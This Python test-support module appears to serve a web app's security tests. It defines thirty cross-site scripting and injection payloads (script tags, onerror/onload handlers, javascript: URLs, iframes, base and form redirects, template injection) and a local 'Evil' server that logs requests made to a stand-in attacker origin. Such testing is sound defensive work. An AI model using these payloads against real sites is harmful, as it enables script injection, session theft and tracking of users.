"""Thirty ways in which text becomes script or a request, where a page lets it; and a server that notices requests."""

from collections.abc import Iterator
from contextlib import contextmanager
from http.server import BaseHTTPRequestHandler, ThreadingHTTPServer

from hosts.threaded_server import in_thread

RUN = "window.ran=1;alert(1)"
TEMPLATES = (
    "<script>RUN</script>",
    "<script src=EVIL/1.js></script>",
    "</script><script>RUN</script>",
    "</title><script>RUN</script>",
    "</textarea></style></noscript></template><img src=x onerror=RUN>",
    "<img src=x onerror=RUN>",
    "\"><img src=x onerror='RUN'>",
    "'><svg/onload=RUN>",
    "<svg onload=RUN></svg>",
    "<svg><script>RUN</script></svg>",
    "<math><mtext><img src=x onerror=RUN></mtext></math>",
    "<details open ontoggle=RUN><summary>x</summary></details>",
    "<input autofocus onfocus=RUN>",
    "<video><source onerror=RUN></video>",
    "<audio src=x onerror=RUN></audio>",
    '<iframe src="javascript:parent.RUN"></iframe>',
    "<iframe srcdoc='<script>parent.RUN</script>'></iframe>",
    "<iframe src=EVIL/frame></iframe>",
    "<object data=EVIL/object></object>",
    "<embed src=EVIL/embed>",
    '<a href="javascript:RUN">x</a>',
    "javascript:RUN",
    "data:text/html,<script>RUN</script>",
    "<base href=EVIL/>",
    "<form action=EVIL/form><button>x</button></form>",
    "<meta http-equiv=refresh content='0;url=EVIL/meta'>",
    "<style>@import 'EVIL/style.css'; *{background:url(EVIL/a.png)}</style>",
    "<link rel=stylesheet href=EVIL/link.css>",
    "{{constructor.constructor('RUN')()}} ${RUN} #{RUN} <%= RUN %>",
    "<img src=EVIL/pixel.png>\u202e\u2028&lt;script&gt;RUN&#x3c;/script&#x3e;",
)  # fmt: skip
ELSEWHERE = "<img src=http://elsewhere.invalid/pixel.png>"
# What none of our pages has in its body, and what a payload would become there.
TAGS = "img,script,iframe,svg,math,object,embed,video,audio,form,style,link,meta,base,a,template,textarea"


def payloads(evil: str) -> list[str]:
    """Return the payloads, aimed at the server at `evil`."""
    return [one.replace("RUN", RUN).replace("EVIL", evil) for one in TEMPLATES]


class Evil:
    """Another origin, which notes what it is asked for; `/?n` is a page that believes payload n, others ELSEWHERE."""

    def __init__(self) -> None:
        self.asked: list[str] = []
        evil = self

        class Handler(BaseHTTPRequestHandler):
            def do_GET(self) -> None:
                evil.asked.append(self.path)
                number = self.path.removeprefix("/?")
                believed = payloads(evil.base)[int(number)] if number.isdigit() else ELSEWHERE
                body = f"<!doctype html><p>{believed}</p>"
                self.send_response(200)
                self.send_header("Content-Type", "text/html; charset=utf-8")
                self.send_header("Content-Length", str(len(body.encode())))
                self.end_headers()
                self.wfile.write(body.encode())

            def log_message(self, *_: object) -> None:
                """Say nothing."""

        self.server = ThreadingHTTPServer(("127.0.0.1", 0), Handler)
        self.base = f"http://127.0.0.1:{self.server.server_port}"


@contextmanager
def evil_server() -> Iterator[Evil]:
    evil = Evil()
    with in_thread(evil.server):
        yield evil
